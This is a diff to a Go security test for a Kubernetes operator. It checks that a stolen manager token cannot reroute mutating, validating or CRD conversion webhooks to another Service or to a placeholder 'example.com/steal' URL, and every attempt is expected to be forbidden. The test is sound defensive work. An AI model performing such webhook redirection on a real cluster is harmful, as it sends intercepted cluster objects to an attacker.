@@ -10,6 +10,7 @@ import (
 	batchv1 "k8s.io/api/batch/v1"
 	corev1 "k8s.io/api/core/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
+	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/client-go/rest"
@@ -90,11 +91,47 @@ func TestAStolenTokenOfTheManager(t *testing.T) {
 		return thief.Get(s.Ctx, client.ObjectKey{Namespace: "kube-system", Name: "any"}, &corev1.Secret{})
 	})
 
+	s.sendsElsewhere(thief)
+
 	t.Log("the barrier of a Pod is what the right on ConfigMaps is for")
 	s.Must(thief.Create(s.Ctx, configMap("default", "victim-barrier", ownedBy("v1", "Pod"))))
 	s.Must(thief.Delete(s.Ctx, configMap("default", "victim-barrier", nil)))
 	s.Must(s.Client.Create(s.Ctx, cloneSet("works", 2)))
 	s.available("works", 2)
+}
+
+// sendsElsewhere checks that the thief cannot have the API server send requests to anybody but the managers.
+func (s *site) sendsElsewhere(thief client.Client) {
+	s.Helper()
+	url := "https://example.com/steal"
+	for name, to := range map[string]admissionv1.WebhookClientConfig{
+		"another Service": {Service: &admissionv1.ServiceReference{Namespace: "default", Name: "thief"}}, "a URL": {URL: &url},
+	} {
+		s.isForbidden("have Pods sent to "+name, func() error {
+			var c admissionv1.MutatingWebhookConfiguration
+			s.Must(thief.Get(s.Ctx, client.ObjectKey{Name: "kruise-mutating-webhook-configuration"}, &c))
+			more := c.Webhooks[0].DeepCopy()
+			more.Name, more.ClientConfig = "more.kb.io", to
+			c.Webhooks = append(c.Webhooks, *more)
+			return thief.Update(s.Ctx, &c, client.DryRunAll)
+		})
+		s.isForbidden("have what is validated sent to "+name, func() error {
+			var c admissionv1.ValidatingWebhookConfiguration
+			s.Must(thief.Get(s.Ctx, client.ObjectKey{Name: "kruise-validating-webhook-configuration"}, &c))
+			c.Webhooks[0].ClientConfig = to
+			return thief.Update(s.Ctx, &c, client.DryRunAll)
+		})
+		s.isForbidden("have conversions sent to "+name, func() error {
+			var crd apiextensionsv1.CustomResourceDefinition
+			s.Must(thief.Get(s.Ctx, client.ObjectKey{Name: "clonesets.apps.kruise.io"}, &crd))
+			c := crd.Spec.Conversion.Webhook.ClientConfig
+			c.URL, c.Service = to.URL, nil
+			if to.Service != nil {
+				c.Service = &apiextensionsv1.ServiceReference{Namespace: to.Service.Namespace, Name: to.Service.Name}
+			}
+			return thief.Update(s.Ctx, &crd, client.DryRunAll)
+		})
+	}
 }
 
 func one(name string) corev1.PodSpec {
